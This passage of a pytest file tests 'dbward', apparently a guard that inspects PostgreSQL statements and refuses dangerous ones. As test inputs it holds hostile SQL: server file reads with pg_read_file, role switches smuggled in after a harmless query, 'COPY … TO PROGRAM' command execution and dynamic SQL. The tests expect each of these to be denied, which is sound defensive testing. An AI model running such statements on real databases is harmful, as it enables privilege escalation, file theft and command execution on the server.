    "CREATE FUNCTION g(pt.a%TYPE) RETURNS pt AS $$ DECLARE a_val pt.a%TYPE; r pt%ROWTYPE; "
    "BEGIN a_val := $1; SELECT * INTO r FROM pt WHERE a = a_val; RETURN r; END; $$ "
    "LANGUAGE plpgsql",
    "CREATE FUNCTION l() RETURNS SETOF pt.a%TYPE AS $$ DECLARE r pt%ROWTYPE; BEGIN "
    "FOR r IN SELECT * FROM pt LOOP RETURN NEXT r.a; END LOOP; END; $$ LANGUAGE plpgsql",
    "CREATE FUNCTION fe(anyarray) RETURNS void AS $$\nDECLARE x xy_tuple[];\nBEGIN "
    "FOREACH x SLICE 1 IN ARRAY $1 LOOP RAISE NOTICE '%', x; END LOOP; END; $$ "
    "LANGUAGE plpgsql",
    "DO $$ DECLARE x app.money_t; y app.status[] := '{}'; BEGIN RAISE NOTICE '%', x; END $$",
    "CREATE FUNCTION s(a app.t) RETURNS app.t LANGUAGE plpgsql AS $$ BEGIN RETURN a; END $$",
]


@pytest.mark.parametrize("sql", CATALOG_TYPED_CODE)
def test_code_whose_types_need_the_catalog_is_read(sql: str) -> None:
    assert decisions(sql) == [ALLOW]


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        (
            "CREATE FUNCTION f(VARIADIC a text[]) RETURNS text LANGUAGE plpgsql AS $$ "
            "BEGIN RETURN pg_read_file(a[1]); END $$",
            "guard.server_file",
        ),
        (  # the record default only the tokens show is still read
            "DO $$ DECLARE z app.t := ROW(pg_read_file('/x')); BEGIN RAISE NOTICE '%', z; END $$",
            "guard.server_file",
        ),
        (
            "DO $$ DECLARE a app.t[] := ARRAY[set_config('role', 'r', false)]; BEGIN END $$",
            "guard.role_switch",
        ),
        (
            "CREATE FUNCTION f(x t.c%TYPE) RETURNS SETOF t.c%TYPE LANGUAGE plpgsql AS $$ "
            "DECLARE y app.t; BEGIN EXECUTE 'SET ROLE ' || x; END $$",
            "guard.dynamic_sql",
        ),
        (  # what does not compile with the stand-ins either is still refused
            "DO $$ DECLARE x app.t[]; BEGIN undeclared := 1; END $$",
            "guard.uninspectable_code",
        ),
    ],
)
def test_code_whose_types_need_the_catalog_is_still_checked(sql: str, rule: str) -> None:
    assert denied_by(sql) == [rule]


def test_field_notation_side_effects_set_the_kind() -> None:
    (statement,) = CLF.classify("SELECT ('s'::regclass).nextval")
    assert statement.kind is StatementKind.WRITE
    (explained,) = CLF.classify("EXPLAIN (ANALYZE false) SELECT 1")
    assert "false" not in explained.functions


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT pg_ls_waldir()",
        "SELECT lo_creat(-1)",
        "SELECT read_file FROM t",
        "SELECT 'pg_read_file'",
    ],
)
def test_server_file_lookalikes_are_allowed(sql: str) -> None:
    assert decisions(sql) == [ALLOW]


@pytest.mark.parametrize(
    ("sql", "rules"),
    [
        ("SELECT 1; SET ROLE admin", ["guard.role_switch"]),
        ("select 1;set role admin;--", ["guard.role_switch"]),
        ("SELECT 1; SELECT set_config('role','x',false)", ["guard.role_switch"]),
        ("BEGIN; COPY t TO PROGRAM 'id'; COMMIT", ["guard.copy_program"]),
        ("SELECT 1; COPY t TO '/x'; RESET ROLE", ["guard.copy_file", "guard.role_switch"]),
    ],
)
def test_guards_catch_statements_hidden_in_multi_statement_strings(
    sql: str, rules: list[str]
) -> None:
    assert denied_by(sql) == rules


@pytest.mark.parametrize(
    "sql",
    ["garbage", "SELECT 'unterminated", "SELECT 1; garbage", "SELECT 1\x00; SET ROLE x"],
)
def test_unparseable_denied_without_raw_sql(sql: str) -> None:
    (decision,) = decisions(sql)
    assert decision.rule == "guard.unparseable"
    assert decision.sqlstate == "42501"
    assert decision.reason.startswith("dbward: statement could not be parsed")
    assert "garbage" not in decision.reason
    assert "unterminated'" not in decision.reason


def test_unparseable_reason_is_sanitized_and_short() -> None:
    statement = Statement(
        text="x",
        kind=StatementKind.UNKNOWN,
        command="UNKNOWN",
        flags=frozenset({"parse_error"}),
        error='syntax error at or near "\x1b[31mDROP\nTABLE" ' + "z" * 500,
    )
    decision = decide(request(statement))
    assert decision.rule == "guard.unparseable"
    assert "DROP" not in decision.reason
    assert "\x1b" not in decision.reason and "\n" not in decision.reason
    assert len(decision.reason) < 200


@pytest.mark.parametrize(
    ("error", "expected"),
    [
        # PASSWORD "hunter2": the quoted token holds the identifier's own quotes
        ('syntax error at or near ""hunter2"", at index 24', "syntax error at or near <...>"),
        ('unrecognized role option "a""b", at index 9', "unrecognized role option <...>"),
        ('unterminated quoted identifier at or near ""x\'y", at index 3', "at or near <...>"),
        ('unterminated quoted string at or near "\'abc", at index 5', "at or near <...>,"),
    ],
)
def test_unparseable_reason_drops_quotes_inside_the_quoted_sql(error: str, expected: str) -> None:
    statement = Statement(text="x", kind=StatementKind.UNKNOWN, command="UNKNOWN", error=error)
    reason = decide(request(statement)).reason
    assert expected in reason
    for word in ("hunter2", "a", "b", "x", "y", "abc"):
        assert f"<...>{word}" not in reason and f"{word}<...>" not in reason


@pytest.mark.parametrize(
    "sql",
    [
        'SELECT * FROM a.b.c."host=h password=hunter2"',
        'CREATE TABLE a.b.c."it\'s password=hunter2, at index 3" (x int)',
    ],
)
def test_unparseable_reason_drops_names_the_parser_quotes_without_quotes(sql: str) -> None:
    """Round 56: "improper qualified name (too many dotted names): a.b.c.host=h password=..."
    quotes no SQL, so a connection string mistyped as a quoted identifier stayed in the reason
    (and the audit record's detail)."""
    (statement,) = PostgresClassifier().classify(sql)
    assert "carries_credential" in statement.flags
    reason = decide(request(statement)).reason
    assert "too many dotted names): <...>" in reason
    assert "hunter2" not in reason and "password" not in reason


def test_statement_limit_denied_with_program_limit_exceeded() -> None:
    (statement,) = PostgresClassifier(max_statements=2).classify("SELECT 1; SELECT 2; SELECT 3")
    decision = decide(request(statement))
    assert decision.rule == "guard.statement_limit"
    assert decision.sqlstate == "54000"
    assert decision.reason == (
        "dbward: the query string holds 3 statements; the limit is 2 per message "
        "(max_statements_per_query); send smaller batches"
    )


def test_unrecognised_statement_kind_denied() -> None:
    statement = Statement(text="x", kind=StatementKind.UNKNOWN, command="NEWTHING")
    assert decide(request(statement)).rule == "guard.unparseable"


def test_function_call_denied() -> None:
    decision = decide(request(function_call_statement(42), ProtocolPath.FUNCTION_CALL))
    assert decision.verdict is Verdict.DENY
    assert decision.rule == "guard.function_call"
    assert decision.reason == (
        "dbward: the FunctionCall protocol message bypasses SQL inspection and is refused"
    )
    assert decision.sqlstate == "42501"


def test_function_call_path_denied_whatever_the_statement() -> None:
    (statement,) = CLF.classify("SELECT 1")
    assert decide(request(statement, ProtocolPath.FUNCTION_CALL)).rule == "guard.function_call"


def test_function_call_flag_denied_on_any_path() -> None:
    assert decide(request(function_call_statement(1))).rule == "guard.function_call"


def test_first_guard_wins() -> None:
    statement = Statement(
        text="x",
        kind=StatementKind.READ,
        command="COPY",
        flags=frozenset({"copy_program", "role_switch"}),
    )
    assert decide(request(statement)).rule == "guard.role_switch"


def test_extension_point_rules_run_after_guards(monkeypatch: pytest.MonkeyPatch) -> None:
    deny_ddl = Decision(Verdict.DENY, reason="no ddl", rule="rule.no_ddl")

    def no_ddl(req: PolicyRequest) -> Decision | None:
        return deny_ddl if req.statement.kind is StatementKind.DDL else None

    monkeypatch.setattr(engine, "RULES", (no_ddl,))
    assert decisions("CREATE TABLE t (a int)") == [deny_ddl]
    assert decisions("SELECT 1") == [ALLOW]
    assert denied_by("SET ROLE x") == ["guard.role_switch"]  # guards still first


def test_guards_are_pure_and_ordered() -> None:
    assert [g.__name__ for g in GUARDS] == [
        "guard_function_call",
        "guard_statement_limit",
        "guard_name_limit",
        "guard_unparseable",
        "guard_role_switch",
        "guard_service_role",
        "guard_copy_program",
        "guard_copy_file",
        "guard_server_file_function",
        "guard_dynamic_sql",
        "guard_uninspectable_code",
        "guard_string_syntax",
    ]
    (statement,) = CLF.classify("SET ROLE admin")
    req = request(statement)
    assert decide(req) == decide(req)


def test_discard_all_is_allowed_for_connection_pools() -> None:
    (statement,) = PostgresClassifier().classify("DISCARD ALL")
    assert "role_switch" not in statement.flags
    assert decide(request(statement)).allowed


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'not even SQL'",
        "SELECT query_to_xml('SELEC 1', true, false, '')",
    ],
)
def test_sql_text_that_does_not_parse_is_refused_saying_so(sql: str) -> None:
    """r62: the refusal of SQL text that does not parse said only that it was computed at run
    time, which it was not."""
    (decision,) = decisions(sql)
    assert (decision.verdict, decision.rule) == (Verdict.DENY, "guard.dynamic_sql")
    assert decision.reason.endswith("or does not parse")


def _rules_in_the_code() -> set[str]:
    """Every `guard.…` rule name written in dbward's source (the guards' decisions, and the
    relay's refusal while the audit log fails)."""
    import ast
    from pathlib import Path

    import dbward

    names = set()
    for path in Path(dbward.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            value = node.value if isinstance(node, ast.Constant) else None
            if isinstance(value, str) and re.fullmatch(r"guard\.[a-z_]+", value):
                names.add(value)
    return names


def test_docs_policy_md_lists_every_guard_of_the_code() -> None:
    """Review r64: docs/policy.md's table of guards is the reference for the audit `rule`;
    each guard the code can name must be there, and nothing else."""
    from pathlib import Path

    doc = Path(__file__).resolve().parents[2] / "docs" / "policy.md"
    table = re.findall(r"^\| `(guard\.[a-z_]+)` \|", doc.read_text(encoding="utf-8"), re.M)
    assert len(table) == len(set(table)), table
    in_code = _rules_in_the_code()
    assert len(in_code) >= len(GUARDS)  # the reader finds them (one guard may have several)
    assert set(table) == in_code
